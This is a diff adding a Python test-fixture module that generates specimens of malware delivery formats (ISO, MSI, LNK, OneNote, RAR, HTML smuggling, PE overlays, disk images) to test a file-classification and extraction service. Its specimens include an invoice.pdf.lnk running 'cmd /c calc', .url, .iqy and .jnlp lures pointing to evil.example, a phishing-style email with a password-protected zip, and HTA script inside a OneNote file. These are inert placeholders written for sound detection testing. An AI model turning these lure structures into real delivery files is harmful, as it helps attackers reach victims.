@@ -1,0 +1,453 @@
+"""Specimens of today's delivery formats, built at test time (issue 14): nothing binary is committed.
+
+libarchive writes cpio, ar, xar, ISO 9660 and 7z; pycdlib writes ISO 9660 with Joliet and UDF;
+cabarchive writes MSZIP cabinets; officedocs.compound_file writes the OLE compound files an MSI
+and an Outlook .msg are made of. RAR cannot be written by any free tool here: see tests/data/README.md.
+"""
+
+from __future__ import annotations
+
+import io
+import struct
+from collections.abc import Iterable
+from dataclasses import dataclass
+
+import cabarchive
+import pycdlib
+
+from officedocs import compound_file
+from services.extract.libarchive_lib import libarchive
+
+
+
+def libarchive_write(fmt: str, members: Iterable[tuple[str, bytes]], options: str = "") -> bytes:
+    """An archive in libarchive's write format `fmt` ("cpio_newc", "ar_svr4", "xar", "iso9660", ...)."""
+    buf = bytearray()
+    with libarchive.custom_writer(lambda block: buf.extend(block) or len(block), fmt, options=options) as writer:
+        for name, data in members:
+            writer.add_file_from_memory(name, len(data), data)
+    return bytes(buf)
+
+
+def make_cpio(entries: Iterable[tuple[str, bytes, int]]) -> bytes:
+    """A "newc" cpio of (name, data, mode) entries; a symlink's data is its target (libarchive-c's
+    writer cannot set one). Written by hand: the format is a hex header, the name, the data."""
+    out = bytearray()
+
+    def pad() -> None:
+        out.extend(b"\0" * (-len(out) % 4))
+
+    for ino, (name, data, mode) in enumerate([*entries, ("TRAILER!!!", b"", 0)], start=1):
+        fields = [ino, mode, 0, 0, 1, 0, len(data), 0, 0, 0, 0, len(name) + 1, 0]
+        out += b"070701" + b"".join(b"%08x" % field for field in fields) + name.encode() + b"\0"
+        pad()
+        out += data
+        pad()
+    return bytes(out)
+
+
+def make_deb(files: dict[str, bytes]) -> bytes:
+    """A Debian package's outer shape: an ar of debian-binary, control.tar.gz and data.tar.gz."""
+    data_tar = libarchive_write_filtered("ustar", "gzip", files.items())
+    control = libarchive_write_filtered("ustar", "gzip", [("control", b"Package: specimen\nVersion: 1\n")])
+    return libarchive_write("ar_svr4", [("debian-binary", b"2.0\n"), ("control.tar.gz", control), ("data.tar.gz", data_tar)])
+
+
+def libarchive_write_filtered(fmt: str, filter_name: str, members: Iterable[tuple[str, bytes]]) -> bytes:
+    buf = bytearray()
+    with libarchive.custom_writer(lambda block: buf.extend(block) or len(block), fmt, filter_name=filter_name) as writer:
+        for name, data in members:
+            writer.add_file_from_memory(name, len(data), data)
+    return bytes(buf)
+
+
+def make_iso(files: dict[str, bytes], joliet: bool = True, udf: bool = False) -> bytes:
+    """An ISO 9660 image (level 4 names) with, optionally, Joliet and UDF trees of the same files."""
+    iso = pycdlib.PyCdlib()
+    iso.new(interchange_level=4, joliet=3 if joliet else None, udf="2.60" if udf else None)
+    for name, data in files.items():
+        extra = {}
+        if joliet:
+            extra["joliet_path"] = "/" + name
+        if udf:
+            extra["udf_path"] = "/" + name
+        iso.add_fp(io.BytesIO(data), len(data), iso_path="/" + name.upper().replace("-", "_"), **extra)
+    out = io.BytesIO()
+    iso.write_fp(out)
+    iso.close()
+    return out.getvalue()
+
+
+def make_cab(files: dict[str, bytes], compress: bool = True) -> bytes:
+    """A Microsoft cabinet, MSZIP-compressed."""
+    cab = cabarchive.CabArchive()
+    for name, data in files.items():
+        cab[name] = cabarchive.CabFile(data)
+    return cab.save(compress=compress)
+
+
+
+def msi_name(name: str, table: bool = False) -> str:
+    """An MSI stream name in its stored form (two characters packed per code point from U+3800)."""
+    alphabet = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz._"
+    out = [chr(0x4840)] if table else []
+    i = 0
+    while i < len(name):
+        first = alphabet.index(name[i])
+        if i + 1 < len(name) and name[i + 1] in alphabet:
+            out.append(chr(0x3800 + first + (alphabet.index(name[i + 1]) << 6)))
+            i += 2
+        else:
+            out.append(chr(0x4800 + first))
+            i += 1
+    return "".join(out)
+
+
+def summary_information(title: str) -> bytes:
+    """A property set stream with one property, the title (what libmagic reads to call a file an MSI)."""
+    text = title.encode() + b"\0"
+    text += b"\0" * (-len(text) % 4)
+    prop = struct.pack("<II", 0x1E, len(text)) + text
+    section = struct.pack("<IIII", 16 + len(prop), 1, 2, 16) + prop
+    fmtid = bytes.fromhex("E0859FF2F94F6810AB9108002B27B3D9")  # FMTID_SummaryInformation
+    return struct.pack("<HHI", 0xFFFE, 0, 0x20006) + bytes(16) + struct.pack("<I", 1) + fmtid + struct.pack("<I", 48) + section
+
+
+def make_msi(cab: bytes, binaries: dict[str, bytes]) -> bytes:
+    """An MSI-shaped compound file: summary information, a `!_Tables` table stream, an embedded
+    cabinet and Binary.* streams."""
+    streams = {"\x05SummaryInformation": summary_information("Installation Database"),
+               msi_name("_Tables", table=True): b"\0" * 16, msi_name("disk1.cab"): cab}
+    streams.update({msi_name(f"Binary.{key}"): data for key, data in binaries.items()})
+    return compound_file(streams)
+
+
+def _utf16(text: str) -> bytes:
+    return text.encode("utf-16-le")
+
+
+def make_msg(headers: str, body: str, html: str, attachments: dict[str, bytes], rtf: bytes = b"") -> bytes:
+    """An Outlook .msg: transport headers, plain, HTML and (compressed) RTF bodies, attachments with
+    their long names."""
+    import compressed_rtf
+
+    streams = {"__properties_version1.0": bytes(32),  # what libmagic looks for to say "Outlook Message"
+               "__substg1.0_007D001F": _utf16(headers), "__substg1.0_1000001F": _utf16(body),
+               "__substg1.0_10130102": html.encode(), "__substg1.0_0037001F": _utf16("see attached")}
+    if rtf:
+        streams["__substg1.0_10090102"] = compressed_rtf.compress(rtf, compressed=True)
+    for index, (name, data) in enumerate(attachments.items()):
+        storage = f"__attach_version1.0_#{index:08X}"
+        streams[f"{storage}/__substg1.0_37010102"] = data
+        streams[f"{storage}/__substg1.0_3707001F"] = _utf16(name)
+    return compound_file(streams)
+
+
+def make_lnk(target: str, arguments: str = "", working_dir: str = "", icon: str = "", machine_id: str = "",
+             description: str = "") -> bytes:
+    """A Windows shortcut ([MS-SHLLINK]): header, LinkInfo with the target as its local base path,
+    Unicode string data, and a tracker block carrying the machine id (NetBIOS name)."""
+    flags = 0x2 | 0x80  # HasLinkInfo, IsUnicode
+    strings = b""
+    for bit, text in ((0x4, description), (0x10, working_dir), (0x20, arguments), (0x40, icon)):
+        if text:
+            flags |= bit
+            strings += struct.pack("<H", len(text)) + text.encode("utf-16-le")
+    header = struct.pack("<I16sII", 0x4C, bytes.fromhex("0114020000000000C000000000000046"), flags, 0x20)
+    header += bytes(24) + struct.pack("<IIIHH", 0, 0, 1, 0, 0) + bytes(8)
+    base = target.encode("latin-1") + b"\0"
+    volume = struct.pack("<IIII", 17, 3, 0x12345678, 16) + b"\0"
+    info_header = 28
+    body = volume + base + b"\0"  # volume id, local base path, empty common path suffix
+    info = struct.pack("<IIIIIII", info_header + len(body), info_header, 1, info_header,
+                       info_header + len(volume), 0, info_header + len(volume) + len(base)) + body
+    extra = b""
+    if machine_id:
+        tracker = struct.pack("<II", 0x58, 0) + machine_id.encode().ljust(16, b"\0")[:16] + bytes(64)
+        extra += struct.pack("<II", 0x60, 0xA0000003) + tracker
+    return header + info + strings + extra + struct.pack("<I", 0)
+
+
+ONENOTE_HEADER = bytes.fromhex("E4525C7B8CD8A74DAEB15378D02996D3")  # the .one file format GUID
+
+
+def make_onenote(files: list[bytes]) -> bytes:
+    """A OneNote section's shape: its format GUID, filler, and one FileDataStoreObject per file."""
+    out = bytearray(ONENOTE_HEADER + bytes(1024 - 16))
+    for data in files:
+        out += bytes.fromhex("E716E3BD65261145A4C48D4D0B7A9EAC") + struct.pack("<QIQ", len(data), 0, 0)
+        out += data + bytes(-len(data) % 8) + bytes.fromhex("22A7FB71790F0B4ABB13899256426B24")
+        out += bytes(64)
+    return bytes(out)
+
+
+def make_pyinstaller(stub: bytes, scripts: dict[str, bytes], pyz: bytes = b"PYZ\0" + bytes(60), pyver: int = 311) -> bytes:
+    """A PyInstaller-shaped executable: `stub` (a real PE), then a CArchive of zlib-compressed
+    entry scripts ('s') and one PYZ ('z'), its table of contents and the 2.1+ cookie."""
+    import zlib
+
+    body = bytearray()
+    toc = bytearray()
+    for kind, name, data in [*(("s", n, d) for n, d in scripts.items()), ("z", "PYZ-00.pyz", pyz)]:
+        packed = zlib.compress(data) if kind == "s" else data
+        entry_name = name.encode() + b"\0"
+        entry_name += b"\0" * (-(18 + len(entry_name)) % 16)
+        toc += struct.pack(">IIIIBc", 18 + len(entry_name), len(body), len(packed), len(data), int(kind == "s"),
+                           kind.encode()) + entry_name
+        body += packed
+    toc_at = len(body)
+    package = len(body) + len(toc) + 88
+    cookie = struct.pack(">8sIIII64s", b"MEI\x0c\x0b\x0a\x0b\x0e", package, toc_at, len(toc), pyver, b"python311.dll")
+    return stub + bytes(body) + bytes(toc) + cookie
+
+
+def append_to_image(kind: str, payload: bytes) -> bytes:
+    """A small real image (made by Pillow) with `payload` concatenated after its end."""
+    from PIL import Image
+
+    out = io.BytesIO()
+    Image.new("RGB", (16, 16), (200, 30, 30)).save(out, format=kind)
+    return out.getvalue() + payload
+
+
+def make_dmg(payload: bytes = bytes(range(256)) * 64) -> bytes:
+    """An Apple disk image's shape: zlib-compressed blocks, the XML property list, the 512-byte
+    `koly` trailer. libmagic sees only "zlib compressed data"; magika knows it."""
+    import zlib
+
+    plist = (b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN">\n'
+             b'<plist version="1.0"><dict><key>resource-fork</key><dict><key>blkx</key><array><dict>'
+             b'<key>Data</key><data>bWlzaA==</data></dict></array></dict></dict></plist>\n')
+    body = zlib.compress(payload)
+    koly = b"koly" + struct.pack(">IIIQQQQQ", 4, 512, 1, 0, 0, len(body), len(body), len(plist))
+    return body + plist + koly.ljust(512, b"\0")
+
+
+@dataclass(frozen=True)
+class Specimen:
+    """One file of a format, with the type it must get and whether a service should open it."""
+
+    format: str
+    name: str
+    data: bytes
+    expected: str
+    container: bool  # something should come out of it (children or URI samples)
+
+
+def specimens() -> list[Specimen]:
+    """The issue 14 formats, one specimen or more each, built now (about 1 MB in all)."""
+    from PIL import Image
+
+    def image(fmt: str) -> bytes:
+        out = io.BytesIO()
+        Image.new("RGB", (32, 32), (10, 120, 200)).save(out, format=fmt)
+        return out.getvalue()
+
+    import base64
+    from pathlib import Path
+
+    import pip._vendor.distlib
+
+    launcher = (Path(pip._vendor.distlib.__file__).parent / "t64.exe").read_bytes()
+    cab = make_cab({"setup.exe": b"MZ" + bytes(300), "readme.txt": b"hello"})
+    zipped = io.BytesIO()
+    import zipfile
+
+    with zipfile.ZipFile(zipped, "w") as zf:
+        zf.writestr("payload.js", "WScript.Echo(1)")
+    eml = (b"From: Billing <billing@evil.example>\nTo: v@victim.example\nSubject: invoice\nMIME-Version: 1.0\n"
+           b"Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nThe password is: Inv2026x\n"
+           b"--b\nContent-Type: application/zip\nContent-Disposition: attachment; filename=inv.zip\n"
+           b"Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(zipped.getvalue()) + b"--b--\n")
+    one = make_onenote([b'<hta:application/><script language="VBScript">CreateObject("WScript.Shell")</script>'])
+    return [
+        Specimen("ISO 9660 + Joliet", "delivery.iso", make_iso({"invoice.pdf.lnk": make_lnk(r"C:\Windows\System32\cmd.exe", "/c calc")}), "archive/iso", True),
+        Specimen("ISO 9660 + UDF", "delivery-udf.iso", make_iso({"a.txt": b"udf"}, udf=True), "archive/iso", True),
+        Specimen("CAB (MSZIP)", "update.cab", cab, "archive/cab", True),
+        Specimen("RAR 4 (stored)", "invoice.rar", make_rar4_stored({"invoice.pdf.lnk": b"L\0\0\0 lnk"}), "archive/rar", True),
+        Specimen("RAR 5 (stored)", "invoice5.rar", make_rar5_stored({"invoice.pdf.lnk": b"L\0\0\0 lnk"}), "archive/rar", True),
+        Specimen("MSI", "setup.msi", make_msi(cab, {"CustomAction": b"MZ dll"}), "document/installer/windows", True),
+        Specimen("cpio", "initrd.cpio", make_cpio([("bin/sh", b"#!/bin/sh\n", 0o100755)]), "archive/cpio", True),
+        Specimen(".deb", "helper.deb", make_deb({"./usr/bin/helper": b"#!/bin/sh\n"}), "archive/deb", True),
+        Specimen("ar", "lib.a", libarchive_write("ar_svr4", [("a.o", b"\x7fELF object")]), "archive/ar", True),
+        Specimen("DMG", "app.dmg", make_dmg(), "archive/dmg", False),
+        Specimen("e-mail (.eml)", "invoice.eml", eml, "text/email", True),
+        Specimen("Outlook (.msg)", "invoice.msg", make_msg("From: a@evil.example\nSubject: x\n", "see", "<p>x</p>",
+                                                            {"a.lnk": b"L\0\0\0"}), "document/office/email", True),
+        Specimen("LNK", "invoice.pdf.lnk", make_lnk(r"C:\Windows\System32\cmd.exe", "/c calc.exe -testCommands",
+                                                   machine_id="desktop-1"), "shortcut/windows", False),
+        Specimen(".url", "open.url", b"[InternetShortcut]\r\nURL=https://evil.example/x.hta\r\n", "shortcut/web", True),
+        Specimen(".iqy", "q.iqy", b"WEB\r\n1\r\nhttps://evil.example/q\r\n", "shortcut/iqy", True),
+        Specimen(".settingcontent-ms", "s.settingcontent-ms",
+                 b'<?xml version="1.0"?>\n<PCSettings><DeepLink>cmd /c calc</DeepLink></PCSettings>', "shortcut/settingcontent", False),
+        Specimen(".jnlp", "app.jnlp", b'<?xml version="1.0"?>\n<jnlp codebase="http://evil.example/"><jar href="a.jar"/></jnlp>',
+                 "shortcut/jnlp", True),
+        Specimen("OneNote", "lure.one", one, "document/office/onenote", True),
+        Specimen("HTML smuggling", "page.html",
+                 b"<html><script>var d='" + base64.b64encode(zipped.getvalue()) + b"';var b=new Blob([atob(d)]);"
+                 b"a.download='inv.zip';</script></html>", "code/html", True),
+        Specimen("PE + zip overlay", "dropper.exe", launcher + zipped.getvalue(), "executable/windows/pe64", True),
+        Specimen("PE appended to PNG", "cat.png", append_to_image("PNG", launcher), "image/png", True),
+        Specimen("RAR appended to JPEG", "cat.jpg", append_to_image("JPEG", b"Rar!\x1a\x07\x01\x00" + bytes(64)), "image/jpeg", True),
+        Specimen("base64 PE in text", "payload.txt", base64.encodebytes(launcher), "text/plain", True),
+        Specimen("PyInstaller", "frozen.exe", make_pyinstaller(launcher, {"main": b"c\0\0\0"}), "executable/windows/pe64", True),
+        Specimen("WebP", "a.webp", image("WEBP"), "image/webp", False),
+        Specimen("ICO", "a.ico", image("ICO"), "image/icon", False),
+        Specimen("pcap", "a.pcap", bytes.fromhex("D4C3B2A1020004000000000000000000FFFF000001000000"), "network/tcpdump", False),
+        Specimen("pcapng", "a.pcapng", bytes.fromhex("0A0D0D0A1C0000004D3C2B1A01000000FFFFFFFFFFFFFFFF1C000000"),
+                 "network/tcpdump", False),
+        Specimen("GPG message", "m.gpg", b"-----BEGIN PGP MESSAGE-----\n\nhQEMA5\n-----END PGP MESSAGE-----\n", "document/pgp", False),
+        Specimen("VHDX", "disk.vhdx", b"vhdxfile" + bytes(4096), "archive/vhdx", False),
+        Specimen("VHD (dynamic, FAT)", "disk.vhd", make_vhd(make_fat({"invoice.pdf.lnk": b"L\0\0\0 lnk"})), "archive/vhd", True),
+        Specimen("disk image (.img, MBR + FAT)", "disk.img", make_mbr_disk(make_fat({"run.bat": b"@echo off"})), "archive/img", True),
+    ]
+
+
+def rar4_block(head_type: int, flags: int, body: bytes) -> bytes:
+    import zlib
+
+    header = struct.pack("<BHH", head_type, flags, 7 + len(body)) + body
+    return struct.pack("<H", zlib.crc32(header) & 0xFFFF) + header
+
+
+def make_rar4_stored(files: dict[str, bytes], encrypted: bool = False) -> bytes:
+    """A RAR 4 archive of stored (uncompressed) members, written by hand from the RAR 4 technote:
+    the marker block, the archive header, one file header (+ data) per member, the end block. No
+    free tool writes RAR; stored members need no compressor, and libarchive reads them as any RAR.
+    `encrypted` sets each member's password flag (its bytes stay as given: a stand-in ciphertext)."""
+    import zlib
+
+    out = b"Rar!\x1a\x07\x00" + rar4_block(0x73, 0, bytes(6))
+    for name, data in files.items():
+        encoded = name.encode()
+        body = struct.pack("<IIBIIBBHI", len(data), len(data), 2, zlib.crc32(data), 0x5A210000, 29 if encrypted else 20,
+                           0x30, len(encoded), 0x20)
+        out += rar4_block(0x74, 0x8000 | (0x4 if encrypted else 0), body + encoded) + data
+    return out + rar4_block(0x7B, 0x4000, b"")
+
+
+def make_fat(files: dict[str, bytes], size: int = 2 * 1024 * 1024) -> bytes:
+    """A FAT12 volume (no partition table, as a floppy or a USB stick image) holding `files`
+    ({"dir/name": bytes}), formatted by pyfatfs in a temporary file."""
+    import tempfile
+    from pathlib import Path
+
+    from pyfatfs.PyFat import PyFat
+    from pyfatfs.PyFatFS import PyFatFS
+
+    with tempfile.TemporaryDirectory(prefix="sluice-fat-") as folder:
+        path = Path(folder) / "volume.img"
+        path.write_bytes(bytes(size))
+        formatter = PyFat()
+        formatter.mkfs(str(path), PyFat.FAT_TYPE_FAT12, size=size)
+        formatter.close()
+        volume = PyFatFS(str(path))
+        for name, data in files.items():
+            parent = name.rsplit("/", 1)[0] if "/" in name else ""
+            if parent and not volume.exists("/" + parent):
+                volume.makedirs("/" + parent)
+            volume.writebytes("/" + name, data)
+        volume.close()
+        return path.read_bytes()
+
+
+def _vhd_footer(size: int, dynamic: bool) -> bytes:
+    cylinders, heads, sectors = min(65535, size // (16 * 63 * 512) + 1), 16, 63
+    footer = bytearray(struct.pack(">8sIIQI4sI4sQQHBBII16sB", b"conectix", 2, 0x00010000,
+                                   512 if dynamic else 0xFFFFFFFFFFFFFFFF, 0, b"sluc", 0x00010000, b"Wi2k",
+                                   size, size, cylinders, heads, sectors, 3 if dynamic else 2, 0, bytes(range(16)), 0))
+    footer += bytes(512 - len(footer))
+    struct.pack_into(">I", footer, 64, ~sum(footer) & 0xFFFFFFFF)
+    return bytes(footer)
+
+
+def make_vhd(raw: bytes, dynamic: bool = True, block_size: int = 2 * 1024 * 1024) -> bytes:
+    """A VHD of the disk `raw`: fixed (the disk, then the footer) or dynamic (footer copy, sparse
+    header, block allocation table, only the blocks that are not all zeros, footer)."""
+    raw = raw.ljust(-(-len(raw) // block_size) * block_size, b"\0")
+    footer = _vhd_footer(len(raw), dynamic)
+    if not dynamic:
+        return raw + footer
+    entries = len(raw) // block_size
+    table_at = 512 + 1024
+    table_bytes = -(-entries * 4 // 512) * 512
+    header = bytearray(struct.pack(">8sQQIIII", b"cxsparse", 0xFFFFFFFFFFFFFFFF, table_at, 0x00010000, entries, block_size, 0))
+    header += bytes(1024 - len(header))
+    struct.pack_into(">I", header, 36, ~sum(header) & 0xFFFFFFFF)
+    bitmap = b"\xff" * (block_size // 512 // 8)
+    bitmap += bytes(-len(bitmap) % 512)
+    table, blocks = [], b""
+    position = table_at + table_bytes
+    for index in range(entries):
+        block = raw[index * block_size:(index + 1) * block_size]
+        if not block.strip(b"\0"):
+            table.append(0xFFFFFFFF)
+            continue
+        table.append((position + len(blocks)) // 512)
+        blocks += bitmap + block
+    bat = struct.pack(f">{entries}I", *table).ljust(table_bytes, b"\xff")
+    return footer + bytes(header) + bat + blocks + footer
+
+
+def make_mbr_disk(volume: bytes, partition_type: int = 0x01) -> bytes:
+    """A disk with an MBR partition table whose one partition (at 1 MiB) is `volume`."""
+    start, sectors = 2048, -(-len(volume) // 512)
+    mbr = bytearray(512)
+    mbr[446:462] = struct.pack("<B3sB3sII", 0, b"\0\0\0", partition_type, b"\0\0\0", start, sectors)
+    mbr[510:512] = b"\x55\xaa"
+    return bytes(mbr) + bytes(start * 512 - 512) + volume.ljust(sectors * 512, b"\0")
+
+
+def make_ntfs(files: dict[str, bytes], size: int = 8 * 1024 * 1024) -> bytes:
+    """An NTFS volume holding `files` (in its root), made by ntfs-3g's mkntfs and ntfscp (Debian's
+    `ntfs-3g`): no Python library writes NTFS. Raises FileNotFoundError without them."""
+    import shutil
+    import subprocess
+    import tempfile
+    from pathlib import Path
+
+    mkntfs, ntfscp = shutil.which("mkntfs") or "/usr/sbin/mkntfs", shutil.which("ntfscp") or "/usr/bin/ntfscp"
+    if not (Path(mkntfs).exists() and Path(ntfscp).exists()):
+        raise FileNotFoundError("mkntfs/ntfscp (Debian package ntfs-3g) are not installed")
+    with tempfile.TemporaryDirectory(prefix="sluice-ntfs-") as folder:
+        image = Path(folder) / "volume.img"
+        image.write_bytes(bytes(size))
+        subprocess.run([mkntfs, "-F", "-f", "-q", str(image)], check=True, capture_output=True)
+        for name, data in files.items():
+            source = Path(folder) / "member"
+            source.write_bytes(data)
+            subprocess.run([ntfscp, "-f", str(image), str(source), name], check=True, capture_output=True)
+        return image.read_bytes()
+
+
+def _vint(value: int) -> bytes:
+    out = bytearray()
+    while True:
+        byte = value & 0x7F
+        value >>= 7
+        out.append(byte | (0x80 if value else 0))
+        if not value:
+            return bytes(out)
+
+
+def _rar5_block(fields: bytes, data: bytes = b"") -> bytes:
+    import zlib
+
+    header = _vint(len(fields)) + fields
+    return struct.pack("<I", zlib.crc32(header)) + header + data
+
+
+def make_rar5_stored(files: dict[str, bytes]) -> bytes:
+    """A RAR 5 archive of stored members, written by hand from the RAR 5 format description: the
+    signature, the main header, a file header (+ data) per member, the end of archive."""
+    import zlib
+
+    out = b"Rar!\x1a\x07\x01\x00" + _rar5_block(_vint(1) + _vint(0) + _vint(0))
+    for name, data in files.items():
+        encoded = name.encode()
+        fields = (_vint(2) + _vint(0x0002) + _vint(len(data))  # type: file; flags: data area present; its size
+                  + _vint(0x0004) + _vint(len(data)) + _vint(0x20)  # file flags: CRC32 present; size; attributes
+                  + struct.pack("<I", zlib.crc32(data)) + _vint(0) + _vint(0)  # CRC32; stored, version 0; host: Windows
+                  + _vint(len(encoded)) + encoded)
+        out += _rar5_block(fields, data)
+    return out + _rar5_block(_vint(5) + _vint(0) + _vint(0))
